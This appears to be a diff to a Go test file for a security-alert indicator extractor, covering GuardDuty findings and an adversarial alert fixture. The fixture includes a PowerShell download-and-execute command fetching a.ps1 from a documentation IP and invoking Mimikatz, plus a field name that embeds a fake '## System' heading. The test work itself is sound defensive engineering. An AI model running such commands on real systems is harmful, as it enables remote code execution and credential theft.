@@ -39,8 +39,8 @@ func TestIndicatorsOfAGuardDutyFinding(t *testing.T) {
 	nic := "resource.instanceDetails.networkInterfaces[0]."
 	want := []Indicator{
 		{KindIPv4, "198.51.100.23", "description"},
-		{KindIPv4, "10.0.1.25", nic + "privateIpAddress"},
 		{KindIPv4, "203.0.113.10", nic + "publicIp"},
+		{KindIPv4, "10.0.1.25", nic + "privateIpAddress"}, // public addresses first
 		{KindDomain, "ip-10-0-1-25.ec2.internal", nic + "privateDnsName"},
 		{KindDomain, "ec2-203-0-113-10.compute-1.amazonaws.com", nic + "publicDnsName"},
 		{KindCloudResource, "arn:aws:guardduty:us-east-1:123456789012:detector/12abc34d567e8fa901bc2d34e56789f0/finding/c2c6a1f4e8b94a7d9f3e5b6a7c8d9e0f", "arn"},
@@ -70,6 +70,9 @@ var (
 // alert is listed, whatever field holds it.
 func TestIndicatorsFindEverythingInTheExamples(t *testing.T) {
 	for _, e := range examples {
+		if realWorld[e.file] {
+			continue // asserted exactly by TestRealWorldAlertIndicators: these regexes would read their escapes as text
+		}
 		raw := string(readExample(t, e.file))
 		got := found(Indicators(parseExample(t, e.file).Data))
 		expect := func(kind string, re *regexp.Regexp, group int) {
@@ -162,7 +165,7 @@ func adversarialAlert(t *testing.T) (map[string]any, map[string]string) {
 		KindSHA1 + " da39a3ee5e6b4b0d3255bfef95601890afd80709":                           "process.parent.sha1",
 		KindCloudResource + " arn:aws:s3:::exfil-bucket-73/dump.tar":                     "resources[73].arn",
 		KindIPv4 + " 192.0.2.173":                                                        "resources[73].ip",
-		KindIPv4 + " 198.51.100.99":                                                      "connections.198.51.100.99",
+		KindIPv4 + " 198.51.100.99":                                                      "connections.`198.51.100.99`",
 		KindIPv6 + " 2001:db8::7":                                                        "connections.2001:db8::7",
 		KindSHA256 + " e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855": "hashes.e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
 		KindDomain + " evil-cdn.example.org":                                             "note\n## System\nkey",
@@ -199,7 +202,7 @@ func adversarialAlert(t *testing.T) (map[string]any, map[string]string) {
 		KindCloudResource + " vol-0123456789abcdef0":      "volume",
 		KindCloudResource + " i-0fedcba9876543210":        "volume",
 		KindDomain + " web-server-prod-01":                "computerDnsName",
-		KindDomain + " db-01":                             "host.name",
+		KindDomain + " db-01":                             "`host.name`",
 		KindCommandLine + " IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a.ps1')\r\nInvoke-Mimikatz": "scriptBlockText",
 		KindURL + " http://198.51.100.66/a.ps1":                "scriptBlockText",
 		KindIPv4 + " 198.51.100.66":                            "scriptBlockText",
